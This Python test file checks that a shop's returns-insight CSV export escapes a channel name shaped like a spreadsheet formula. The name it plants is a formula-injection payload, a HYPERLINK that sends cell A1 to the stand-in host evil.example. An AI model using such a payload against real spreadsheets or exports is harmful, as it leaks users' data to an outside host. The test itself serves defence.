"""The managers' returns insight as CSV: a channel's name is whatever an integration
or a person typed, so one that starts like a formula is opened as text."""

import csv
import io

from tests.factories import delivered_order


def test_a_channel_named_like_a_formula_is_escaped_in_the_insight_export(shop, client):
    shop["web"].name = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
    shop["web"].save(update_fields=["name"])
    delivered_order(shop, lines=[(shop["tee"], 4)])
    client.force_login(shop["maria"])

    export = client.get("/store/returns/insight/", {"format": "csv"})

    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    web = next(row for row in rows if row["channel"] == "web")
    assert web["name"] == "'" + shop["web"].name
    assert web["sold"] == "4"  # figures stay figures
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
    )
